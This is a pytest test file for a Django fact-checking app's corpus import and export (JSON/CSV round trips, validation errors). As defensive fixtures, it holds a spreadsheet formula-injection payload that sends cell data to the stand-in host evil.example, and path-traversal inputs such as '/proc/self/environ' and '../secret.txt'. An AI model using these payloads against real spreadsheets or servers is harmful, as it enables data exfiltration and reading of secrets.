"""Corpus import and export: round trips, idempotence, and every malformed input refused with nothing written."""

import copy
import csv
import io
import json
import os
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import CommandError, call_command

from factcheck import corpus
from factcheck.models import Annotation, Assertion, Claim, Resolution, Source, Topic
from tests.conftest import make_claim, make_source, row_counts
from tests.corpus_docs import claim_record, corpus_doc, quote_record

SEED = Path(settings.BASE_DIR) / "fixtures" / "seed_corpus.json"

WIRE = (
    "Russia keeps its naval base at Tartus. Officials said the “agreements will be respected” by both sides.\n"
    "Later, Russia keeps its naval base at Tartus.\n"
)
ESSAY = "The Soviet navy used Tartus from 1971. Nobody said, “we will leave”, then or since."


def _doc():
    """A format 1 document: format 2 adds to it (``_doc2``), and format 1 still imports."""
    return {
        "format": corpus.FORMAT_1,
        "sources": [
            {
                "key": "wire",
                "title": "Wire, report",
                "publisher": "Agency",
                "author": "A. Writer",
                "url": "https://example.org/wire",
                "published": "2025-10-16",
                "as_of": "2025-10",
                "kind": "wire",
                "language": "en",
                "notes": "Dated by its dateline.",
                "text": WIRE,
            },
            {
                "key": "essay",
                "title": "Essay",
                "publisher": "",
                "author": "",
                "url": "",
                "published": None,
                "as_of": "2021",
                "kind": "essay",
                "language": "en",
                "notes": "",
                "text": ESSAY,
            },
        ],
        "topics": [{"slug": "bases", "title": "Will Russia keep its bases?", "description": "Tartus, Hmeimim."}],
        "claims": [
            {
                "key": "tartus-stays",
                "topic": "bases",
                "text": 'Russia keeps Tartus, "for now".\nA second line, with a comma.',
                "assertions": [
                    {
                        "source": "wire",
                        "stance": "supports",
                        "quote": "Russia keeps its naval base at Tartus.",
                        "occurrence": 2,
                        "as_of": "2025-10-15",
                    },
                    {
                        "source": "wire",
                        "stance": "qualifies",
                        "quote": 'Officials said the "agreements will be respected"',
                    },
                    {"source": "essay", "stance": "disputes", "quote": "Nobody said, “we will leave”"},
                ],
            },
            {"key": "hmeimim-stays", "topic": "bases", "text": "Russia keeps Hmeimim.", "assertions": []},
        ],
    }


def _write(tmp_path, name, content):
    path = tmp_path / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return str(path)


def _write_json(tmp_path, data, name="corpus.json"):
    return _write(tmp_path, name, json.dumps(data, ensure_ascii=False, indent=2))


def _import(path, *args):
    out, err = io.StringIO(), io.StringIO()
    call_command("import_corpus", path, *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def _empty_the_corpus():
    for model in (Resolution, Annotation, Assertion, Claim, Topic, Source):
        for obj in model.objects.all():
            obj.delete()


def _refused(path, *args):
    """Import ``path``; it must fail, change no table, and return the problems."""
    before = row_counts()
    with pytest.raises(CommandError) as exc:
        _import(path, *args)
    assert row_counts() == before
    message = str(exc.value)
    head, *problems = message.split("\n")
    assert head == f"{len(problems)} problem(s); nothing was imported:"
    return problems


# Round trips and idempotence -------------------------------------------------


def test_it_imports_then_exports_the_same_corpus_with_its_offsets(db, tmp_path):
    out, _ = _import(_write_json(tmp_path, _doc()))
    assert out == (
        f"Imported {tmp_path / 'corpus.json'}: 2 sources created, 1 topic created, 2 claims created, "
        "3 assertions created.\n"
    )
    exported = corpus.export_corpus()
    by_quote = {a["quote"]: a for a in exported["claims"][1]["assertions"]}
    second = by_quote["Russia keeps its naval base at Tartus."]
    assert (second["start"], second["end"]) == (111, 149)
    assert WIRE[111:149] == "Russia keeps its naval base at Tartus."
    typed = by_quote['Officials said the "agreements will be respected"']
    assert WIRE[typed["start"] : typed["end"]] == "Officials said the “agreements will be respected”"
    # Format 1's as_of is the start of the period the statement speaks about; nothing else is inferred.
    assert second["period"] == {"from": "2025-10-15", "to": None}
    assert (second["speaker"], second["stated_on"]) == (None, None)
    assert typed["period"] is None
    assert exported["format"] == "factcheck-corpus/2"
    assert exported["sources"][1]["as_of"] == "2025-10"


# Outside a test transaction, so that the database can really be emptied (PostgreSQL
# refuses TRUNCATE while a transaction has pending foreign-key checks).
@pytest.mark.django_db(transaction=True)
def test_it_round_trips_the_seed_corpus_through_json_into_an_empty_database(tmp_path):
    if SEED.exists():
        data, base_dir = corpus.read_corpus_file(SEED)
        corpus.import_corpus(data, base_dir=base_dir, label=str(SEED))
    else:
        corpus.import_corpus(_doc())
    first = corpus.export_corpus()
    path = str(tmp_path / "export.json")
    call_command("export_corpus", "-o", path, stderr=io.StringIO())
    assert json.loads(Path(path).read_text(encoding="utf-8")) == first

    # An empty database, as a fresh install's: every table emptied, then what migrate sets up.
    call_command("flush", interactive=False, verbosity=0)
    assert not any(m.objects.exists() for m in (Source, Topic, Claim, Assertion, Source.history.model))
    _import(path)
    assert corpus.export_corpus() == first


def test_it_round_trips_claims_through_csv(db, tmp_path):
    corpus.import_corpus(_doc())
    first = corpus.export_corpus()
    path = str(tmp_path / "claims.csv")
    call_command("export_corpus", "-o", path, stderr=io.StringIO())
    text = Path(path).read_text(encoding="utf-8")
    assert text.splitlines()[0] == (
        "claim_key,topic,claim_text,claim_kind,source,stance,quote,occurrence,speaker,stated_on,period_from,period_to"
    )
    # The repeated quote carries its occurrence; the claim without a source has a row of its own.
    assert "Russia keeps its naval base at Tartus.,2,,,2025-10-15," in text
    assert "hmeimim-stays,bases,Russia keeps Hmeimim.,event,,,,,,,," in text

    for claim in Claim.objects.all():
        claim.delete()
    out, _ = _import(path)
    assert out == f"Imported {path}: 2 claims created, 3 assertions created.\n"
    assert corpus.export_corpus() == first


FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+7% growth in trade",
    "-2 warships left",
    "@SUM(A1:A9)",
    "\tindented line",
    "'Tis the season",
    "'=already marked",
    "''twice",
)


def test_it_writes_cells_a_spreadsheet_would_run_as_formulas_inert_and_reads_them_back(db, tmp_path):
    text = " ".join(f"{quote}." for quote in FORMULAS)
    doc = corpus_doc(
        claim_record("-k", "=1+1", *(quote_record("-wire", formula) for formula in FORMULAS)),
        sources=[{"key": "-wire", "title": "Wire", "text": text}],
        topic=("-bases", "Bases?"),
    )
    corpus.import_corpus(doc)
    first = corpus.export_corpus()
    path = tmp_path / "claims.csv"
    call_command("export_corpus", "-o", str(path), stderr=io.StringIO())
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))[1:]
    assert {(*row[:3], *row[4:6]) for row in rows} == {("'-k", "'-bases", "'=1+1", "'-wire", "supports")}
    assert sorted(row[6] for row in rows) == sorted(
        [
            '\'=HYPERLINK("http://evil.example/?"&A1,"Open")',
            "'+7% growth in trade",
            "'-2 warships left",
            "'@SUM(A1:A9)",
            "'\tindented line",
            "'Tis the season",  # an apostrophe before a letter is the text's own: left alone
            "''=already marked",
            "'''twice",
        ]
    )
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))

    Claim.objects.get().delete()
    _import(str(path))
    assert corpus.export_corpus() == first


def test_it_changes_nothing_when_the_same_file_is_imported_again(db, tmp_path):
    json_path = _write_json(tmp_path, _doc())
    _import(json_path)
    csv_path = str(tmp_path / "claims.csv")
    call_command("export_corpus", "-o", csv_path, stderr=io.StringIO())
    for path, unchanged in (
        (json_path, "2 sources, 1 topic, 2 claims, 3 assertions"),
        (csv_path, "2 claims, 3 assertions"),
    ):
        before = row_counts()  # history tables included: no new history rows either
        out, _ = _import(path)
        assert out == f"Imported {path}: nothing changed ({unchanged} already up to date).\n"
        assert row_counts() == before


def test_it_updates_changed_records_with_history_and_removes_dropped_assertions(db, tmp_path):
    _import(_write_json(tmp_path, _doc()))
    doc = _doc()
    doc["claims"][0]["assertions"][0]["stance"] = "qualifies"
    del doc["claims"][0]["assertions"][2]
    doc["topics"][0]["title"] = "Will Russia keep Tartus and Hmeimim?"
    out, _ = _import(_write_json(tmp_path, doc), "-v", "2")
    assert "1 topic updated, 1 assertion updated, 1 assertion removed" in out
    assert "  updated topic 'bases' (title)\n" in out
    assertion = Assertion.objects.get(claim__key="tartus-stays", stance="qualifies", start=111)
    assert assertion.history.count() == 2
    assert assertion.history.first().history_change_reason == "imported from corpus.json"
    assert not Assertion.objects.filter(source__key="essay").exists()
    assert Claim.objects.get(key="tartus-stays").status == "single"


def test_it_reports_what_a_dry_run_would_change_and_writes_nothing(db, tmp_path):
    before = row_counts()
    out, _ = _import(_write_json(tmp_path, _doc()), "--dry-run")
    assert "nothing written; importing it would leave: 2 sources created, 1 topic created" in out
    assert row_counts() == before


def test_it_exports_one_topic_with_only_the_sources_it_cites(db, tmp_path):
    corpus.import_corpus(_doc())
    other = make_claim(
        assertions=[(make_source(title="Unrelated"), "supports", "Russia keeps its naval base at Tartus.")]
    )
    out = io.StringIO()
    call_command("export_corpus", "--topic", "bases", stdout=out, stderr=io.StringIO())
    data = json.loads(out.getvalue())
    assert [t["slug"] for t in data["topics"]] == ["bases"]
    assert [s["key"] for s in data["sources"]] == ["essay", "wire"]
    assert other.key not in {c["key"] for c in data["claims"]}
    with pytest.raises(CommandError, match="Unknown topic\\(s\\): nope"):
        call_command("export_corpus", "--topic", "nope", stdout=io.StringIO(), stderr=io.StringIO())


def test_it_shows_progress_on_request_without_flooding_a_log(db, tmp_path):
    doc = _doc()
    doc["claims"] += [
        {"key": f"extra-{n}", "topic": "bases", "text": f"Extra claim {n}.", "assertions": []} for n in range(40)
    ]
    path = _write_json(tmp_path, doc)
    _, quiet = _import(path)
    assert quiet == ""  # not a terminal, not asked: nothing
    _, err = _import(path, "--progress")
    lines = err.splitlines()
    assert lines[0] == "checking claims: 1/42 (2%)"
    assert "writing claims: 42/42 (100%)" in lines
    assert len(lines) <= 2 * 11


# Malformed input: each refused with its own message, nothing written ----------


def test_it_refuses_invalid_json_with_line_and_column(db, tmp_path):
    path = _write(tmp_path, "bad.json", '{\n  "format": "factcheck-corpus/1",\n  "sources": [,]\n}')
    assert _refused(path) == [f"{path}: line 3, column 15: invalid JSON (Expecting value)"]


DROP = object()  # in CHANGES: remove the field


def _change(doc, dotted, value):
    """Set (with ``DROP``: remove) the field at ``dotted`` ("claims.0.key"); one past a list's end appends."""
    *parents, last = (int(part) if part.isdigit() else part for part in dotted.split("."))
    for part in parents:
        doc = doc[part]
    if value is DROP:
        del doc[last]
    elif isinstance(doc, list) and last == len(doc):
        doc.append(value)
    else:
        doc[last] = value


@pytest.mark.parametrize(
    "changes, problems",
    [
        pytest.param(
            {"claims.0.assertions.1.quote": DROP},
            ["claims[0] (key 'tartus-stays') assertions[1]: field 'quote' is required"],
            id="a-record-missing-a-field",
        ),
        pytest.param(
            {"claims.0.assertions.2.source": "essai"},
            ["claims[0] (key 'tartus-stays') assertions[2]: field 'source': unknown source 'essai'"],
            id="an-unknown-source",
        ),
        pytest.param(
            {"claims.0.assertions.2.quote": "The Soviet navy used Tartous from 1971."},
            [
                "claims[0] (key 'tartus-stays') assertions[2]: field 'quote' does not occur in “Essay”; "
                "nearest passage: “The Soviet navy used Tartus from 1971.”"
            ],
            id="a-quote-that-is-not-in-the-text-showing-the-nearest-passage",
        ),
        pytest.param(
            {"claims.0.assertions.0.stance": "agrees"},
            [
                "claims[0] (key 'tartus-stays') assertions[0]: field 'stance': 'agrees' is not one of "
                "supports, disputes, qualifies"
            ],
            id="a-bad-stance",
        ),
        pytest.param(
            {"sources.0.language": "Russian"},
            [
                "sources[0] (key 'wire'): field 'language': “Russian” is not an ISO 639-1 language code; "
                "use the code “ru”."
            ],
            id="a-language-that-is-not-a-code",
        ),
        pytest.param(
            {"sources.0.published": "2025-10", "claims.0.assertions.0.as_of": "2025-02-30"},
            [
                "sources[0] (key 'wire'): field 'published' needs a full date (YYYY-MM-DD)",
                "claims[0] (key 'tartus-stays') assertions[0]: field 'as_of': '2025-02-30' is not a valid date: "
                "day is out of range for month",
            ],
            id="bad-dates",
        ),
        pytest.param(
            {"claims.1.key": "tartus-stays", "topics.1": {"slug": "bases", "title": "Again?"}},
            [
                "topics[1] (slug 'bases'): duplicate topic slug 'bases'",
                "claims[1] (key 'tartus-stays'): duplicate claim key 'tartus-stays'",
            ],
            id="duplicate-keys",
        ),
        pytest.param(
            {"claims.0.assertions.0.occurrence": DROP, "claims.0.assertions.1.occurrence": 3},
            [
                "claims[0] (key 'tartus-stays') assertions[0]: field 'quote' occurs 2 times in “Wire, report”; "
                "add 'occurrence' (1–2)",
                "claims[0] (key 'tartus-stays') assertions[1]: field 'occurrence' must be a whole number from 1 to 1, "
                "got 3",
            ],
            id="a-repeated-quote-without-its-occurrence-and-a-bad-occurrence",
        ),
        pytest.param(
            {"claims.0.assertions.0.asof": "2025", "topics.0.slug": "bases and more"},
            [
                "topics[0]: field 'slug': 'bases and more' may only hold letters, digits, hyphens and underscores",
                "claims[0] (key 'tartus-stays'): field 'topic': unknown topic 'bases'",
                "claims[0] (key 'tartus-stays') assertions[0]: unknown field(s) 'asof'",
                "claims[1] (key 'hmeimim-stays'): field 'topic': unknown topic 'bases'",
            ],
            id="unknown-fields-and-bad-keys",
        ),
    ],
)
def test_it_refuses_a_bad_record_naming_it_and_the_field(db, tmp_path, changes, problems):
    doc = _doc()
    for dotted, value in changes.items():
        _change(doc, dotted, value)
    path = _write_json(tmp_path, doc)
    assert _refused(path) == [f"{path}: {problem}" for problem in problems]


def test_it_refuses_a_file_that_is_not_utf8_naming_the_byte(db, tmp_path):
    raw = json.dumps(_doc(), ensure_ascii=False).replace("A. Writer", "A. Écrivain").encode("cp1252", errors="replace")
    path = _write(tmp_path, "latin.json", raw)
    pos = raw.index(b"\xc9")
    line_col = f"line 1, column {pos + 1}"
    assert _refused(path) == [
        f"{path}: not UTF-8 text: byte 0xc9 at offset {pos} ({line_col}) is not valid UTF-8; save the file as UTF-8"
    ]


def test_it_refuses_a_new_source_text_that_drops_a_stored_quote(db, tmp_path):
    corpus.import_corpus(_doc())
    doc = {"format": corpus.FORMAT, "sources": [dict(_doc()["sources"][1], text="The Soviet navy used Tartus.")]}
    path = _write_json(tmp_path, doc)
    assert _refused(path) == [
        f"{path}: sources[0] (key 'essay'): field 'text': the new text no longer holds the quote of stored claim "
        "'tartus-stays' at 39–67 (“Nobody said, “we will leave””); include that claim in the file with the "
        "quote's new place"
    ]


def test_it_reports_every_problem_at_once(db, tmp_path):
    doc = _doc()
    doc["format"] = "factcheck-corpus/3"
    doc["sources"][0]["kind"] = "blog"
    doc["sources"][0]["url"] = "not a url"
    doc["claims"][0]["assertions"][0]["stance"] = None
    path = _write_json(tmp_path, doc)
    assert _refused(path) == [
        f"{path}: format: expected 'factcheck-corpus/2' (or the older 'factcheck-corpus/1'), got 'factcheck-corpus/3'",
        f"{path}: sources[0] (key 'wire'): field 'url': 'not a url' is not a valid URL",
        f"{path}: sources[0] (key 'wire'): field 'kind': 'blog' is not one of "
        "encyclopedia, news, analysis, wire, official, essay, other",
        # Checked as the current format: its assertions give a period, not format 1's as_of.
        f"{path}: claims[0] (key 'tartus-stays') assertions[0]: unknown field(s) 'as_of' "
        "(format 2 gives the period as 'period': {'from', 'to'})",
        f"{path}: claims[0] (key 'tartus-stays') assertions[0]: field 'stance': None is not one of "
        "supports, disputes, qualifies",
    ]


# CSV-specific problems --------------------------------------------------------

HEADER = "claim_key,topic,claim_text,source,stance,quote,occurrence,as_of\n"


@pytest.fixture
def stored(db):
    """The sources and topic of _doc() in the database, for CSV rows to name."""
    corpus.import_corpus({**_doc(), "claims": []})


@pytest.mark.usefixtures("stored")
def test_it_refuses_a_csv_missing_a_column(tmp_path):
    path = _write(tmp_path, "claims.csv", "claim_key,topic,claim_text,source,quote,as_of\nk,bases,T,wire,Q,\n")
    assert _refused(path) == [
        f"{path}: line 1: missing column(s) 'stance', 'occurrence'",
        f"{path}: line 1: the header must name the columns {', '.join(corpus.CSV_COLUMNS_1)}",
    ]


@pytest.mark.parametrize(
    "rows, problems",
    [
        pytest.param(
            'tartus-stays,bases,"Russia keeps Tartus,\nsays the wire.",wire,supports,'
            "Russia keeps its naval base at Tartus.,1,\n"
            "short,bases,Too few cells\n"
            'broken,bases,"Unclosed quote,wire,supports,x,,\n',
            [
                "line 4: 3 cells, but the header has 8 columns",
                "line 5: malformed CSV (unexpected end of data); rows after it were not read",
            ],
            id="wrong-cells-or-broken-quoting",
        ),
        pytest.param(
            "tartus-stays,bases,Russia keeps Tartus.,wire,supports,Russia keeps its naval base at Tartus.,2,2025-10\n"
            "tartus-stays,bases,Russia keeps Tartus!,essay,disputse,Nobody said,,\n"
            "no-topic,,Hmeimim.,wire,supports,Later,,2025\n"
            "twice,bases,Twice.,wire,supports,Russia keeps its naval base at Tartus.,x,\n",
            [
                "line 3 (claim 'tartus-stays'): field 'claim_text' differs from line 2, where the same claim begins",
                "line 5: field 'occurrence': 'x' is not a whole number",
                "line 3: field 'stance': 'disputse' is not one of supports, disputes, qualifies",
                "line 4 (claim 'no-topic'): field 'topic' is required",
                "line 5: field 'quote' occurs 2 times in “Wire, report”; add 'occurrence' (1–2)",
            ],
            id="rows-that-disagree-about-their-claim",
        ),
    ],
)
@pytest.mark.usefixtures("stored")
def test_it_refuses_bad_csv_rows_naming_the_line_and_the_field(tmp_path, rows, problems):
    path = _write(tmp_path, "claims.csv", HEADER + rows)
    assert _refused(path) == [f"{path}: {problem}" for problem in problems]


@pytest.mark.usefixtures("stored")
def test_it_refuses_a_csv_with_only_a_bom_and_nothing_else(tmp_path):
    path = _write(tmp_path, "claims.csv", b"\xef\xbb\xbf")
    assert _refused(path) == [
        f"{path}: line 1: expected a header row naming the columns {', '.join(corpus.CSV_COLUMNS)}"
    ]


@pytest.mark.usefixtures("stored")
def test_it_reads_a_csv_saved_by_a_spreadsheet_with_a_bom_and_crlf(tmp_path):
    body = HEADER + "k1,bases,Claim one.,essay,disputes,The Soviet navy used Tartus from 1971.,,1971\n"
    path = _write(tmp_path, "claims.csv", b"\xef\xbb\xbf" + body.replace("\n", "\r\n").encode())
    out, _ = _import(path)
    assert "1 claim created, 1 assertion created" in out
    assert Assertion.objects.get().as_of_value == "1971"


def test_it_takes_text_files_beside_a_json_file_but_not_in_an_upload(db, tmp_path):
    (tmp_path / "essay.txt").write_text(ESSAY, encoding="utf-8")
    doc = {"format": corpus.FORMAT, "sources": [{"key": "essay", "title": "Essay", "text_file": "essay.txt"}]}
    _import(_write_json(tmp_path, doc))
    assert Source.objects.get().text == ESSAY
    with pytest.raises(corpus.CorpusError) as exc:
        corpus.import_corpus(copy.deepcopy(doc), base_dir=None, label="upload.json")
    assert exc.value.problems == [
        "upload.json: sources[0] (key 'essay'): field 'text_file' cannot be used in an uploaded file; "
        "put the text in field 'text'"
    ]


def test_it_reads_text_files_only_from_inside_the_folder_of_the_json_file(db, tmp_path):
    folder = tmp_path / "corpus"
    (folder / "texts").mkdir(parents=True)
    (folder / "texts" / "essay.txt").write_text(ESSAY, encoding="utf-8")
    secret = tmp_path / "secret.txt"
    secret.write_text("DJANGO_SECRET_KEY=must-not-leak", encoding="utf-8")
    (folder / "link.txt").symlink_to(secret)
    (folder / "inner-link.txt").symlink_to(folder / "texts" / "essay.txt")
    (folder / "linked-dir").symlink_to(tmp_path, target_is_directory=True)
    os.mkfifo(folder / "fifo")
    names = {
        "environ": "/proc/self/environ",
        "absolute": str(secret),
        "dotdot": "../secret.txt",
        "deep-dotdot": "texts/../../secret.txt",
        "link": "link.txt",
        "inner-link": "inner-link.txt",
        "through-link": "linked-dir/secret.txt",
        "fifo": "fifo",
        "folder": "texts",
        "itself": ".",
    }
    doc = {
        "format": corpus.FORMAT,
        "sources": [{"key": key, "title": key, "text_file": name} for key, name in names.items()],
    }
    path = _write_json(folder, doc)
    here = folder.resolve()
    problems = _refused(path)
    assert problems == [
        f"{path}: sources[0] (key 'environ'): field 'text_file': '/proc/self/environ' lies outside the folder "
        f"of the corpus file ({here}); put the text file there",
        f"{path}: sources[1] (key 'absolute'): field 'text_file': '{secret}' lies outside the folder "
        f"of the corpus file ({here}); put the text file there",
        f"{path}: sources[2] (key 'dotdot'): field 'text_file': '../secret.txt' lies outside the folder "
        f"of the corpus file ({here}); put the text file there",
        f"{path}: sources[3] (key 'deep-dotdot'): field 'text_file': 'texts/../../secret.txt' lies outside the folder "
        f"of the corpus file ({here}); put the text file there",
        f"{path}: sources[4] (key 'link'): field 'text_file': 'link.txt' goes through a symbolic link (link.txt); "
        "copy the text file there instead",
        f"{path}: sources[5] (key 'inner-link'): field 'text_file': 'inner-link.txt' goes through a symbolic link "
        "(inner-link.txt); copy the text file there instead",
        f"{path}: sources[6] (key 'through-link'): field 'text_file': 'linked-dir/secret.txt' goes through a "
        "symbolic link (linked-dir); copy the text file there instead",
        f"{path}: sources[7] (key 'fifo'): field 'text_file': 'fifo' is not a regular file",
        f"{path}: sources[8] (key 'folder'): field 'text_file': 'texts' is not a regular file",
        f"{path}: sources[9] (key 'itself'): field 'text_file': '.' lies outside the folder "
        f"of the corpus file ({here}); put the text file there",
    ]
    assert not any("must-not-leak" in p for p in problems)
    # A file in a folder below the JSON file's is beside it.
    doc = {"format": corpus.FORMAT, "sources": [{"key": "e", "title": "E", "text_file": "texts/essay.txt"}]}
    _import(_write_json(folder, doc))
    assert Source.objects.get(key="e").text == ESSAY


def test_it_rewrites_one_progress_line_on_a_terminal_at_most_ten_times_a_second(monkeypatch):
    from django.core.management.base import OutputWrapper

    from factcheck.management import progress as progress_module

    class Terminal(io.StringIO):
        def isatty(self):
            return True

    clock = iter([0.0, 0.05, 0.2, 0.25, 0.3])
    monkeypatch.setattr(progress_module.time, "monotonic", lambda: next(clock))
    stream = Terminal()
    report = progress_module.Progress(OutputWrapper(stream))
    for done in range(1, 6):
        report("writing claims", done, 5)
    # 2/5 came 50 ms after 1/5 and 4/5 50 ms after 3/5: skipped; the last always shows.
    assert stream.getvalue() == "\rwriting claims: 1/5\rwriting claims: 3/5\rwriting claims: 5/5\n"
